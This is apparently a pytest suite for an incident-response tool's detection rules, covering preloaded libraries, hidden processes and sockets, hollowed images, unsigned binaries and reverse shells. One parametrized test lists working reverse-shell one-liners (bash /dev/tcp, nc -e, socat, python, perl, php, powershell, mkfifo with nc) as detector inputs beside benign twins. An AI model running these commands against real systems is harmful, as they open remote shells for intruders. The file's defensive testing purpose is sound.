"""Rules on what process lists do not show: each trick, and its harmless twin."""

from __future__ import annotations

import pytest

from responder.analysis.interpreters import runs, shell_shape
from responder.model.absent import Absent
from responder.model.finding import Severity
from tests.responder.analysis.conftest import (
    LINUX,
    WINDOWS_10,
    WINDOWS_2000,
    alert,
    at,
    connection,
    fact,
    listener,
    running,
    socket,
)


def linux(lab, rule, **tables):
    return lab.findings(rule, tables, (LINUX,))


# -- preload -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "library", "owner", "severity"),
    [
        ("ld.so.preload", "/lib/libsystem.so", "no package", Severity.HIGH),
        ("77", "/dev/shm/x.so", "no package", Severity.HIGH),
        ("77", "/run/x.so", "no package", Severity.HIGH),
        ("77", "/usr/lib/libc_helper.so", "dpkg: libc6 (modified)", Severity.HIGH),
        ("77", "/opt/agent/lib/agent.so", "no package", Severity.MEDIUM),
        ("77", "libfakeroot-sysv.so", "searched by name", Severity.LOW),
        ("77", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "dpkg: libjemalloc2", Severity.INFO),
    ],
)
def test_preloaded_libraries(lab, name, library, owner, severity):
    facts = [fact(1, "preload", name, library, item="t", detail=owner)]
    (found,) = linux(lab, "process.preload", t=facts, ps=[running(1, "cron", 77)])
    assert found.severity is severity
    assert found.facts["everywhere"] is (name == "ld.so.preload")
    assert found.facts["pids"] == ([77] if name == "77" else [])
    assert len(found.evidence) == (2 if name == "77" else 1)


@pytest.mark.parametrize(
    ("library", "severity"),
    [
        ("/tmp/.x/h.so", Severity.HIGH),
        ("/opt/agent/lib/agent.so", Severity.MEDIUM),
        ("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", Severity.LOW),
    ],
)
def test_imported_libraries_whose_package_nobody_asked_for(lab, library, severity):
    facts = [fact(1, "preload", "77", library, item="t", detail=Absent.NOT_APPLICABLE)]
    (found,) = linux(lab, "process.preload", t=facts, ps=[running(1, "cron", 77)])
    assert found.severity is severity


def test_one_library_in_many_processes_is_one_finding(lab):
    facts = [fact(n, "preload", str(n), "/tmp/x.so", item="t", detail="no package") for n in range(1, 9)]
    (found,) = linux(lab, "process.preload", t=facts, ps=[running(n, "bash", n) for n in range(1, 9)])
    assert found.facts["pids"] == list(range(1, 9))


# -- hidden ------------------------------------------------------------------------------------------------------------


def test_hidden_process_takes_the_listener_without_an_owner(lab):
    facts = [fact(1, "hidden process", "17", "the kernel answers", item="t", detail="/proc does not list it")]
    rows = [listener(1, 5454, Absent.NOT_APPLICABLE, process_pid=Absent.NOT_APPLICABLE), listener(2, 22, "sshd")]
    (found,) = linux(lab, "process.hidden", t=facts, net=rows)
    assert found.severity is Severity.HIGH
    assert found.facts == {"pid": 17, "ports": ["tcp/5454"], "looks": 2}


def test_a_listener_of_the_kernel_alone_is_nothing(lab):
    rows = [listener(1, 2049, Absent.NOT_APPLICABLE, process_pid=Absent.NOT_APPLICABLE)]
    assert linux(lab, "process.hidden", net=rows, ps=[running(1, "cron", 77)]) == []


def looks(moments, gap=0.0):
    tables = {}
    for n, minute in enumerate(moments):
        tables[f"net{n}"] = [listener(1, 8081, "x.exe", item=f"net{n}", process_pid=666, observed=at(minute))]
        tables[f"ps{n}"] = [running(1, "explorer.exe", 5, item=f"ps{n}", observed=at(minute + gap))]
    return tables


def test_owner_in_no_process_list_weighs_when_seen_twice(lab):
    (once,) = lab.findings("process.hidden", looks([0]))
    (twice,) = lab.findings("process.hidden", looks([0, 30]))
    assert (once.severity, once.facts["looks"]) == (Severity.LOW, 1)
    assert (twice.severity, twice.facts["looks"]) == (Severity.HIGH, 2)
    assert twice.facts["pid"] == 666


def test_lists_of_different_times_do_not_contradict_each_other(lab):
    assert lab.findings("process.hidden", looks([0, 30], gap=10)) == []
    rows = {"net": [listener(1, 80, "System", process_pid=4)], "ps": [running(1, "explorer.exe", 5)]}
    assert lab.findings("process.hidden", rows) == []


def test_hidden_listener(lab):
    name = "tcp 0.0.0.0:5454"
    facts = [fact(1, "hidden socket", name, "netlink", item="t", detail="/proc/net does not show it")]
    (found,) = linux(lab, "endpoint.hidden", t=facts, net=[listener(1, 5454, "x", process_pid=9)])
    assert found.facts == {"endpoint": name, "pid": 9}
    assert found.severity is Severity.HIGH
    assert linux(lab, "endpoint.hidden", t=[fact(1, "route", name, "x", item="t")]) == []


def test_hollow_process(lab):
    facts = [fact(1, "mapped image", "9", "/memfd:x (deleted)", item="t", detail="/usr/sbin/cron")]
    (found,) = linux(lab, "image.hollow", t=facts, ps=[running(1, "cron", 9, process_path="/usr/sbin/cron")])
    assert found.facts == {"pid": 9, "path": "/usr/sbin/cron", "mapped": "/memfd:x (deleted)"}
    assert len(found.evidence) == 2


# -- shells ------------------------------------------------------------------------------------------------------------


def test_shell_on_a_socket_also_on_loopback(lab):
    facts = [fact(1, "standard input", "9", "127.0.0.1:50000 → 127.0.0.1:4444", item="t", detail="tcp ESTABLISHED")]
    (found,) = linux(lab, "endpoint.reverse_shell", t=facts, ps=[running(1, "sh", 9, process_path="/usr/bin/dash")])
    assert found.facts["peer"] == "127.0.0.1"
    assert found.severity is Severity.HIGH


def test_a_server_that_inetd_starts_has_a_socket_as_its_input_too(lab):
    facts = [fact(1, "standard input", "9", "10.0.0.1:22 → 10.0.0.2:50000", item="t")]
    assert linux(lab, "endpoint.reverse_shell", t=facts, ps=[running(1, "sshd", 9)]) == []


def test_terminal_between_shell_and_socket(lab):
    rows = [running(1, "python3", 8, process_path="/usr/bin/python3.11"), running(2, "bash", 9, process_parent_pid=8)]
    out = connection(1, "203.0.113.9", 443, "python3", process_pid=8)
    (found,) = linux(lab, "endpoint.reverse_shell", ps=rows, net=[out])
    assert found.facts["peer"] == "203.0.113.9"
    served = [out, listener(2, 8000, "python3", process_pid=8)]
    assert linux(lab, "endpoint.reverse_shell", ps=rows, net=served) == []
    ssh = [running(1, "sshd", 8), running(2, "bash", 9, process_parent_pid=8)]
    assert (
        linux(lab, "endpoint.reverse_shell", ps=ssh, net=[connection(1, "203.0.113.9", 443, "sshd", process_pid=8)])
        == []
    )


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
        ("nc.traditional", "nc -e /bin/sh 203.0.113.9 443"),
        ("nc", "nc -lvpe 4444 /bin/bash"),
        ("ncat", "ncat --sh-exec /bin/sh 203.0.113.9 443"),
        ("socat", "socat exec:'bash -li',pty tcp:203.0.113.9:443"),
        ("python3.11", "python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"),
        ("perl", "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec('/bin/sh -i')"),
        ("php", "php -r $s=fsockopen('203.0.113.9',443);exec('/bin/sh -i <&3 >&3') socket"),
        ("powershell.exe", "powershell -nop -c $c=New-Object System.Net.Sockets.TCPClient('x',1);$s=$c.GetStream()"),
        ("sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1| nc 203.0.113.9 443 >/tmp/f"),
    ],
)  # fmt: skip
def test_command_lines_that_make_a_shell(lab, name, command):
    assert shell_shape(name, command)
    (found,) = linux(lab, "endpoint.reverse_shell", ps=[running(1, name, 9, process_command_line=command)])
    assert found.facts["pid"] == 9


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("nc", "nc -vz host 443"),
        ("nc", "nc -lC 4444"),
        ("socat", "socat tcp-listen:80,fork tcp:10.0.0.1:80"),
        ("python3", "python3 /usr/bin/supervisord -c /etc/supervisor.conf"),
        ("python3", "python3 -c import socket; print(socket.gethostname())"),
        ("bash", "bash -c echo > /tmp/dev_tcp"),
        ("powershell.exe", "powershell -c Test-NetConnection host"),
        ("perl", "perl -e print 1"),
    ],
)
def test_command_lines_that_make_none(name, command):
    assert shell_shape(name, command) == ""


def test_what_an_interpreter_runs():
    assert runs("python3 -c import x") == ("inline", "")
    assert runs("/usr/bin/perl -wT /usr/sbin/munin-node") == ("script", "/usr/sbin/munin-node")
    assert runs("python3 -m http.server") == ("script", "")
    assert runs("python3 -u -W ignore /srv/app.py --port 80") == ("script", "/srv/app.py")
    assert runs("python3 -") == ("nothing", "")
    assert runs("bash") == ("nothing", "")


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("python3 -c import socket", Severity.HIGH),
        ("python3", Severity.HIGH),
        ("python3 /tmp/x.py", Severity.HIGH),
        ("python3 /srv/app/serve.py", Severity.LOW),
        ("python3 /usr/bin/fail2ban-server start", None),
        ("python3 -m gunicorn app", None),
    ],
)
def test_interpreter_with_a_listener(lab, command, severity):
    rows = [
        listener(1, 6001, "python3", process_pid=9, process_path="/usr/bin/python3.11", process_command_line=command)
    ]
    found = linux(lab, "endpoint.shell_socket", net=rows)
    assert [f.severity for f in found] == ([severity] if severity is not None else [])


# -- signatures, users, alerts -----------------------------------------------------------------------------------------


def programs(*extra):
    rows = [
        running(n, name, n, process_path=f"/usr/sbin/{name}", process_signer=f"dpkg: {name}")
        for n, name in enumerate(("cron", "rsyslogd", "acpid", "atd"), 1)
    ]
    return [*rows, *extra]


def test_stranger_among_packaged_programs(lab):
    odd = running(9, "updatesvc", 9, process_path="/usr/sbin/updatesvc", process_signer="no package")
    (found,) = linux(lab, "image.unsigned", ps=programs(odd))
    assert (found.severity, found.facts["neighbours"]) == (Severity.MEDIUM, 4)
    (loud,) = linux(lab, "image.unsigned", ps=programs(odd), net=[listener(1, 99, "updatesvc", process_pid=9)])
    assert loud.severity is Severity.HIGH


def test_strangers_among_strangers_are_nothing(lab):
    own = running(9, "agent", 9, process_path="/usr/local/bin/agent", process_signer="no package")
    unseen = running(10, "tool", 10, process_path="/usr/sbin/tool")
    assert linux(lab, "image.unsigned", ps=programs(own, unseen)) == []


def test_bytes_that_are_not_the_package_s(lab):
    odd = running(9, "sshd", 9, process_path="/usr/sbin/sshd", process_signer="dpkg: openssh-server (modified)")
    (found,) = linux(lab, "image.unsigned", ps=programs(odd))
    assert found.severity is Severity.HIGH
    # An update replaces the file of a running service; the rule on replaced images tells that.
    updated = running(9, "sshd", 9, process_path="/usr/sbin/sshd", process_image_state="replaced",
                      process_signer="dpkg: openssh-server (modified)")  # fmt: skip
    assert linux(lab, "image.unsigned", ps=programs(updated)) == []


def test_windows_files_signed_in_catalogues_read_as_untrusted(lab):
    def system(n, name, signer):
        return running(n, name, n, process_path=f"C:\\Windows\\System32\\{name}", process_signer=signer)

    rows = [system(n, name, "Microsoft Windows") for n, name in enumerate(("lsass.exe", "svchost.exe", "csrss.exe"), 1)]
    rows += [system(8, "spoolsv.exe", "untrusted"), system(9, "updsvc.exe", "untrusted")]
    (found,) = lab.findings("image.unsigned", {"ps": rows})
    assert found.facts["path"] == "C:\\Windows\\System32\\updsvc.exe"


@pytest.mark.parametrize(
    ("host", "user", "wrong"),
    [
        (WINDOWS_10, "PC1\\bob", True),
        (WINDOWS_10, "CORP\\alice", True),
        (WINDOWS_10, "CORP\\admin2", False),
        (WINDOWS_10, "NT AUTHORITY\\SYSTEM", False),
        (WINDOWS_10, "AUTORITE NT\\Système", False),
        (WINDOWS_10, "NT-AUTORITÄT\\NETZWERKDIENST", False),
        (WINDOWS_2000, "SRV1\\bob", True),
    ],
)
def test_system_process_of_a_person(lab, host, user, wrong):
    rows = [
        running(1, "lsass.exe", 600, user_name=user),
        running(2, "explorer.exe", 700, user_name="CORP\\alice"),
    ]
    found = lab.findings("process.wrong_user", {"ps": rows}, (host,))
    assert [f.facts["user"] for f in found] == ([user] if wrong else [])


def test_services_of_a_user_exist_since_windows_10_only(lab):
    rows = {"ps": [running(1, "svchost.exe", 600, user_name="SRV1\\bob")]}
    assert len(lab.findings("process.wrong_user", rows, (WINDOWS_2000,))) == 1
    rows = {"ps": [running(1, "svchost.exe", 600, user_name="PC1\\bob")]}
    assert lab.findings("process.wrong_user", rows) == []


def test_linux_services_belong_to_root(lab):
    assert len(linux(lab, "process.wrong_user", ps=[running(1, "cron", 9, user_name="www-data")])) == 1
    assert linux(lab, "process.wrong_user", ps=[running(1, "cron", 9, user_name="root")]) == []
    assert linux(lab, "process.wrong_user", ps=[running(1, "nginx", 9, user_name="www-data")]) == []


def test_unknown_program_that_starts_with_the_first_alert(lab):
    ids = [alert(1, "ET EXPLOIT Apache worm attack", "203.0.113.9", "192.168.10.21", at(10))]
    rows = [
        running(1, "xyzupd.exe", 9, process_start=at(12)),
        running(2, "old.exe", 10, process_start=at(1)),
        running(3, "late.exe", 11, process_start=at(300)),
        running(4, "svchost.exe", 12, process_start=at(12)),
    ]
    (found,) = lab.findings("process.near_alert", {"ps": rows, "ids": ids})
    assert found.facts == {"process": "xyzupd.exe", "pid": 9, "seconds": 120}
    other = [alert(1, "ET EXPLOIT Apache worm attack", "203.0.113.9", "192.168.10.99", at(10))]
    assert lab.findings("process.near_alert", {"ps": rows, "ids": other}) == []


def test_a_look_without_traces_says_nothing(lab):
    result, _ = lab.analyse(
        {"ps": programs(), "net": [socket(1, state="LISTENING", local_port=22, process_name="sshd")]}, (LINUX,)
    )
    rules = {"process.preload", "process.hidden", "endpoint.hidden", "image.hollow", "endpoint.reverse_shell"}
    assert not rules & {f.rule_id for f in result.findings}
